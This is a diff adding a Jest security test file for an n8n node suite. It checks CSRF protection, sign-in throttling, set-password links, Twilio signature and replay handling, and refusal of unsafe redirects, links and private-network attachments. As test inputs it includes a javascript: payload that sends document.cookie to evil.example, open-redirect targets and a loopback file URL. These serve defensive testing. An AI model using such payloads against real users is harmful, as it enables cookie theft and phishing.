@@ -1,0 +1,370 @@
+/**
+ * What stops people who should not get in, in a real n8n host behind a proxy whose public address
+ * differs from n8n's own: Inbox sign-in (form token, throttling, sign-out, set-password links),
+ * Twilio callbacks (signed against the Public Base URL only, replays, malformed requests), and the
+ * checks on what workflows render and download (script links, Redirect Page, private file URLs).
+ */
+import { statSync } from 'node:fs';
+import { createServer, request, type Server } from 'node:http';
+import type { WorkspaceStore } from '../../core/store/workspaceStore';
+
+const { startStack, exampleWorkflow } = require('../support/stack');
+const { twilioSignature } = require('../support/twilioDouble');
+const { webhookWorkflow } = require('../support/workflows');
+const { setPassword } = require('../../dist/core/inbox/auth');
+
+jest.setTimeout(300_000);
+
+type Stack = Awaited<ReturnType<typeof startStack>>;
+let stack: Stack;
+let store: WorkspaceStore;
+let files: Server;
+
+const PUBLIC_BASE_URL = 'https://n8n.glowmedspa.test';
+const FILE_PORT = 5796 + Number(process.env.AESTHETIX_PORT_OFFSET || 0);
+const PASSWORD = 'Glow-Inbox-2026';
+const WORKSPACE = { aesthetixWorkspaceApi: { id: 'aeWorkspace00001', name: 'Glow Med Spa workspace' } };
+const STRICT_SMTP = { aesthetixSmtpApi: { id: 'aeSmtpStrict0001', name: 'SMTP without private file URLs' } };
+const ids: Record<string, number> = {};
+/** Failed sign-ins after which an account is paused, as the README says. */
+const ACCOUNT_FAILURES = 10;
+
+const workflows = [
+	exampleWorkflow('workspace-endpoint.json'),
+	webhookWorkflow('aePasswordLink01', 'password-link', {
+		name: 'Password Link',
+		type: 'n8n-nodes-aesthetix.workspace',
+		credentials: WORKSPACE,
+		parameters: { resource: 'teamUser', operation: 'passwordLink', userId: '={{ $json.body.id }}', expiresAfterHours: 2 },
+	}),
+	webhookWorkflow('aeImportWithPass', 'import-with-passwords', {
+		name: 'Import Team',
+		type: 'n8n-nodes-aesthetix.workspace',
+		credentials: WORKSPACE,
+		onError: 'continueRegularOutput',
+		parameters: { resource: 'teamUser', operation: 'import', users: '={{ $json.body.users }}' },
+	}),
+	webhookWorkflow('aeNotifyRedirect', 'notify-redirect', {
+		name: 'Notify',
+		type: 'n8n-nodes-aesthetix.internalNotification',
+		credentials: WORKSPACE,
+		onError: 'continueRegularOutput',
+		parameters: {
+			type: 'inApp',
+			contact: '={{ {} }}',
+			toUserType: ['roles'],
+			roles: 'owner',
+			title: 'New lead',
+			message: 'Call them',
+			redirectPage: '={{ $json.body.page }}',
+		},
+	}),
+	webhookWorkflow('aeEmailLinkSafe', 'email-link', {
+		name: 'Email',
+		type: 'n8n-nodes-aesthetix.sendEmail',
+		credentials: { ...WORKSPACE, aesthetixSmtpApi: { id: 'aeSmtpLocal00001', name: 'Local SMTP' } },
+		onError: 'continueRegularOutput',
+		parameters: {
+			contact: '={{ $json.body.contact }}',
+			fromEmail: 'hello@glowmedspa.test',
+			subject: 'Your page',
+			message: '<p>Hi {{contact.first_name}}, <a href="{{contact.website}}">your page</a></p>',
+		},
+	}),
+	webhookWorkflow('aeEmailPrivFile', 'email-private-file', {
+		name: 'Email',
+		type: 'n8n-nodes-aesthetix.sendEmail',
+		credentials: { ...WORKSPACE, ...STRICT_SMTP },
+		onError: 'continueRegularOutput',
+		parameters: {
+			contact: '={{ $json.body.contact }}',
+			fromEmail: 'hello@glowmedspa.test',
+			subject: 'Your aftercare',
+			message: '<p>Attached.</p>',
+			attachments: { url: [{ url: '={{ $json.body.url }}', fileName: '' }] },
+		},
+	}),
+];
+
+const inbox = () => `${stack.host.baseUrl}/webhook/aesthetix/inbox`;
+
+/** A browser's cookie jar, for one visitor. */
+class Visitor {
+	private readonly cookies = new Map<string, string>();
+
+	async fetch(url: string, init: { method?: string; form?: Record<string, string> } = {}): Promise<{ status: number; text: string; headers: Headers }> {
+		const res = await fetch(url, {
+			method: init.method ?? (init.form ? 'POST' : 'GET'),
+			redirect: 'manual',
+			headers: {
+				cookie: [...this.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
+				...(init.form ? { 'content-type': 'application/x-www-form-urlencoded' } : {}),
+			},
+			body: init.form ? new URLSearchParams(init.form).toString() : undefined,
+		});
+		for (const line of res.headers.getSetCookie()) {
+			const [pair] = line.split(';');
+			const [name, ...value] = pair.split('=');
+			if (/Max-Age=0/.test(line)) this.cookies.delete(name);
+			else this.cookies.set(name, value.join('='));
+		}
+		return { status: res.status, text: await res.text(), headers: res.headers };
+	}
+
+	/** The token a page's form carries. */
+	static csrf(html: string): string {
+		return /name="csrf" value="([^"]+)"/.exec(html)![1];
+	}
+
+	async signIn(email: string, password: string) {
+		const page = await this.fetch(`${inbox()}/login`);
+		return this.fetch(`${inbox()}/login`, { form: { csrf: Visitor.csrf(page.text), email, password } });
+	}
+}
+
+/** A request with any Host header, which fetch does not allow. */
+function rawPost(url: string, headers: Record<string, string>, body: string): Promise<{ status: number; text: string }> {
+	return new Promise((resolve, reject) => {
+		const req = request(url, { method: 'POST', headers }, (res) => {
+			let text = '';
+			res.setEncoding('utf8');
+			res.on('data', (c) => (text += c));
+			res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
+		});
+		req.on('error', reject);
+		req.end(body);
+	});
+}
+
+beforeAll(async () => {
+	files = createServer((req, res) => res.writeHead(200, { 'content-type': 'application/pdf' }).end('%PDF aftercare'));
+	await new Promise<void>((resolve) => files.listen(FILE_PORT, '127.0.0.1', resolve));
+	stack = await startStack({
+		name: 'security',
+		port: 5771,
+		workflows,
+		workspace: { publicBaseUrl: PUBLIC_BASE_URL },
+		extraCredentials: ({ smtp }: { smtp: { port: number } }) => [
+			{
+				...STRICT_SMTP.aesthetixSmtpApi,
+				type: 'aesthetixSmtpApi',
+				data: { host: '127.0.0.1', port: smtp.port, secure: false, starttls: 'never', poolSize: 1, rateLimit: 0 },
+			},
+		],
+	});
+	store = await stack.openWorkspace();
+	for (const [key, user] of Object.entries({
+		maya: { name: 'Maya Lopez', email: 'maya@glowmedspa.test', role: 'coordinator' },
+		sam: { name: 'Sam Reyes', email: 'sam@glowmedspa.test', role: 'coordinator' },
+		olivia: { name: 'Olivia Owner', email: 'owner@glowmedspa.test', role: 'owner' },
+	})) {
+		ids[key] = (await store.teamUsers.create(user)).id;
+		await setPassword(store, ids[key], PASSWORD);
+	}
+});
+
+afterAll(async () => {
+	await store?.close();
+	await stack?.stop();
+	await new Promise((resolve) => files?.close(resolve));
+});
+
+describe('the workspace file', () => {
+	it('is readable by its owner only', () => {
+		expect(statSync(stack.workspaceFile).mode & 0o777).toBe(0o600);
+	});
+});
+
+describe('Inbox sign-in', () => {
+	it('refuses a sign-in posted without the form token, as another site would post it', async () => {
+		const visitor = new Visitor();
+		const forged = await visitor.fetch(`${inbox()}/login`, { form: { email: 'maya@glowmedspa.test', password: PASSWORD } });
+		expect(forged.status).toBe(403);
+		expect(forged.text).toContain('This form has expired. Reload the page and try again.');
+		expect(forged.headers.getSetCookie().some((c) => c.startsWith('aesthetix_inbox='))).toBe(false);
+		const page = await visitor.fetch(`${inbox()}/login`);
+		const guessed = await visitor.fetch(`${inbox()}/login`, { form: { csrf: 'guess', email: 'maya@glowmedspa.test', password: PASSWORD } });
+		expect(guessed.status).toBe(403);
+		const real = await visitor.fetch(`${inbox()}/login`, { form: { csrf: Visitor.csrf(page.text), email: 'maya@glowmedspa.test', password: PASSWORD } });
+		expect(real.status).toBe(303);
+	});
+
+	it('signs out only through the Sign out form, not by a link', async () => {
+		const visitor = new Visitor();
+		expect((await visitor.signIn('maya@glowmedspa.test', PASSWORD)).status).toBe(303);
+		const link = await visitor.fetch(`${inbox()}/logout`);
+		expect(link.status).toBe(303);
+		const queue = await visitor.fetch(inbox());
+		expect(queue.status).toBe(200);
+		const signOut = await visitor.fetch(`${inbox()}/logout`, { form: { csrf: Visitor.csrf(queue.text) } });
+		expect(signOut.headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
+		expect((await visitor.fetch(inbox())).headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
+	});
+
+	it('pauses an account after 10 failed attempts, refusing even the right password, and says when to retry', async () => {
+		const visitor = new Visitor();
+		for (let n = 0; n < ACCOUNT_FAILURES; n++) {
+			expect((await visitor.signIn('owner@glowmedspa.test', `wrong-${n}-password`)).status).toBe(401);
+		}
+		const paused = await visitor.signIn('owner@glowmedspa.test', PASSWORD);
+		expect(paused.status).toBe(429);
+		expect(paused.text).toContain('Too many sign-in attempts. Try again in 15 minutes.');
+		expect(Number(paused.headers.get('retry-after'))).toBeGreaterThan(14 * 60);
+		// Another account from the same address is not paused.
+		expect((await new Visitor().signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(303);
+	});
+
+	it('refuses a 15 MiB password quickly, as a failed attempt', async () => {
+		const visitor = new Visitor();
+		const started = Date.now();
+		const huge = await visitor.signIn('sam@glowmedspa.test', 'x'.repeat(15 * 1024 * 1024));
+		expect(huge.status).toBe(401);
+		expect(Date.now() - started).toBeLessThan(10_000);
+		expect((await store.db.get<{ points: number }>('SELECT points FROM inbox_throttle WHERE key = ?', ['signin:account:sam@glowmedspa.test']))?.points).toBe(1);
+	});
+});
+
+describe('set-password links', () => {
+	it('lets a team user choose their password once, ending their other sessions', async () => {
+		const before = new Visitor();
+		expect((await before.signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(303);
+		const { json } = await stack.trigger('password-link', { id: ids.sam });
+		expect(json[0]).toMatchObject({ user_id: ids.sam, name: 'Sam Reyes', email: 'sam@glowmedspa.test' });
+		const link: string = json[0].set_password_url;
+		expect(link).toMatch(new RegExp(`^${PUBLIC_BASE_URL}/webhook/aesthetix/inbox/set-password\\?token=[\\w-]{43}$`));
+		expect(Date.parse(json[0].expires_at) - Date.now()).toBeGreaterThan(119 * 60_000);
+		// The proxy at the Public Base URL forwards to n8n.
+		const local = link.replace(PUBLIC_BASE_URL, stack.host.baseUrl);
+		const sam = new Visitor();
+		const form = await sam.fetch(local);
+		expect(form.status).toBe(200);
+		const token = new URL(local).searchParams.get('token')!;
+		const mismatch = await sam.fetch(`${inbox()}/set-password`, { form: { csrf: Visitor.csrf(form.text), token, password: 'Sam-chose-this-1', confirm: 'Sam-chose-that-1' } });
+		expect(mismatch.status).toBe(400);
+		const set = await sam.fetch(`${inbox()}/set-password`, { form: { csrf: Visitor.csrf(form.text), token, password: 'Sam-chose-this-1', confirm: 'Sam-chose-this-1' } });
+		expect(set.status).toBe(303);
+		expect(set.headers.get('location')).toBe('/webhook/aesthetix/inbox/login?password=set');
+		expect((await before.fetch(inbox())).headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
+		expect((await sam.signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(401);
+		expect((await sam.signIn('sam@glowmedspa.test', 'Sam-chose-this-1')).status).toBe(303);
+		const again = await new Visitor().fetch(local);
+		expect(again.status).toBe(410);
+		expect(again.text).toContain('This set-password link has expired or was already used.');
+	});
+
+	it('refuses an imported list that carries passwords', async () => {
+		const { json } = await stack.trigger('import-with-passwords', { users: [{ name: 'Pat Doe', email: 'pat@glowmedspa.test', password: 'Pat-password-1' }] });
+		expect(json[0].error).toMatchObject({ message: 'Users: entry 1 has a password, and imported lists carry none' });
+		expect(await store.teamUsers.findByEmail('pat@glowmedspa.test')).toBeUndefined();
+	});
+});
+
+describe('Twilio callbacks behind a proxy', () => {
+	const path = '/webhook/aesthetix/twilio/inbound';
+	const text = (from: string, body: string) => ({
+		AccountSid: stack.twilio.accountSid,
+		MessageSid: `SM${from.slice(-4)}${'0'.repeat(28)}`,
+		From: from,
+		To: '+15550009999',
+		Body: body,
+		NumMedia: '0',
+	});
+	const post = (params: Record<string, string>, signedUrl: string) =>
+		fetch(`${stack.host.baseUrl}${path}`, {
+			method: 'POST',
+			headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': twilioSignature(stack.twilio.authToken, signedUrl, params) },
+			body: new URLSearchParams(params).toString(),
+		});
+	const logged = async (phone: string) => {
+		const contact = await store.contacts.findByEmailOrPhone(null, phone);
+		return contact ? (await store.conversations.forContact(contact.id)).filter((m) => m.direction === 'inbound') : [];
+	};
+
+	it('accepts a callback signed for the Public Base URL, and refuses one signed for the Host n8n was reached at', async () => {
+		const forHost = await post(text('+15552220001', 'Hello'), `${stack.host.baseUrl}${path}`);
+		expect(forHost.status).toBe(403);
+		expect(await logged('+15552220001')).toHaveLength(0);
+		const forPublic = await post(text('+15552220001', 'Hello'), `${PUBLIC_BASE_URL}${path}`);
+		expect(forPublic.status).toBe(200);
+		expect((await logged('+15552220001')).map((m) => m.body)).toEqual(['Hello']);
+	});
+
+	it('acts on a replayed callback once', async () => {
+		const stop = text('+15552220002', 'STOP');
+		expect((await post(stop, `${PUBLIC_BASE_URL}${path}`)).status).toBe(200);
+		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(true);
+		const start = text('+15552220002', 'START');
+		start.MessageSid = `SM2222${'1'.repeat(28)}`;
+		expect((await post(start, `${PUBLIC_BASE_URL}${path}`)).status).toBe(200);
+		// The captured STOP, posted again, is answered but changes nothing.
+		const replay = await post(stop, `${PUBLIC_BASE_URL}${path}`);
+		expect(replay.status).toBe(200);
+		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(false);
+		expect((await logged('+15552220002')).map((m) => m.body)).toEqual(['STOP', 'START']);
+		const receipts = await store.db.all('SELECT replay_key FROM webhook_receipts WHERE replay_key IN (?, ?)', [
+			`twilio:inbound:${stop.MessageSid}`,
+			`twilio:inbound:${start.MessageSid}`,
+		]);
+		expect(receipts).toHaveLength(2);
+	});
+
+	it('answers a malformed Host with 403 and a null body with 400, never a 500', async () => {
+		const params = text('+15552220003', 'Hi');
+		const body = new URLSearchParams(params).toString();
+		const badHost = await rawPost(
+			`${stack.host.baseUrl}${path}`,
+			{ host: 'bad host!', 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': twilioSignature(stack.twilio.authToken, `http://bad host!${path}`, params) },
+			body,
+		);
+		expect(badHost.status).toBe(403);
+		expect(badHost.text).not.toMatch(/at .*\.js:\d+/);
+		const nullBody = await fetch(`${stack.host.baseUrl}${path}`, {
+			method: 'POST',
+			headers: { 'content-type': 'application/json', 'x-twilio-signature': 'x' },
+			body: 'null',
+		});
+		expect(nullBody.status).toBe(400);
+		expect(await nullBody.text()).not.toMatch(/at .*\.js:\d+/);
+		const status = await fetch(`${stack.host.baseUrl}/webhook/aesthetix/twilio/status`, {
+			method: 'POST',
+			headers: { 'content-type': 'application/json', 'x-twilio-signature': 'x' },
+			body: '["MessageSid"]',
+		});
+		expect(status.status).toBe(400);
+		expect(await logged('+15552220003')).toHaveLength(0);
+	});
+});
+
+describe('what workflows render and download', () => {
+	it('refuses a Redirect Page on another site, and keeps a workspace path', async () => {
+		for (const page of ['https://evil.example/login', '//evil.example/login', 'javascript:alert(1)']) {
+			const { json } = await stack.trigger('notify-redirect', { page });
+			expect(json[0].error.message).toBe(`Redirect Page "${page}" must be a workspace path such as /contacts/12 or an address on n8n.glowmedspa.test`);
+		}
+		const ok = await stack.trigger('notify-redirect', { page: `${PUBLIC_BASE_URL}/contacts/7` });
+		expect(ok.json[0].error).toBeUndefined();
+		const [latest] = await store.notifications.forUser(ids.olivia);
+		expect(latest.redirect_page).toBe(`${PUBLIC_BASE_URL}/contacts/7`);
+	});
+
+	it('refuses to email a link whose custom value is javascript:, and sends a web link', async () => {
+		stack.smtp.reset();
+		const bad = await stack.trigger('email-link', { contact: { first_name: 'Eve', email: 'eve@example.com', website: 'javascript:fetch("//evil.example/"+document.cookie)' } });
+		expect(bad.json[0].error.message).toBe('Message could not be rendered: the link from {{contact.website}} starts with "javascript:", and links may not run script or carry data');
+		const good = await stack.trigger('email-link', { contact: { first_name: 'Ana', email: 'ana@example.com', website: 'https://ana.example/' } });
+		expect(good.json[0].error).toBeUndefined();
+		const [mail] = await stack.smtp.waitForMessages(1);
+		expect(mail.html).toContain('<a href="https://ana.example/">your page</a>');
+		expect(stack.smtp.messages).toHaveLength(1);
+	});
+
+	it('refuses an attachment from a loopback address unless the SMTP credential allows private networks', async () => {
+		stack.smtp.reset();
+		const { json } = await stack.trigger('email-private-file', { contact: { email: 'ana@example.com' }, url: `http://127.0.0.1:${FILE_PORT}/aftercare.pdf` });
+		expect(json[0].error).toEqual({
+			message: `Add Attachments: File URL "http://127.0.0.1:${FILE_PORT}/aftercare.pdf" could not be downloaded: 127.0.0.1 is at 127.0.0.1, a private or local network address`,
+			description: expect.stringContaining('turn on Allow File URLs on Private Networks in the SMTP credential'),
+		});
+		expect(stack.smtp.messages).toHaveLength(0);
+	});
+});
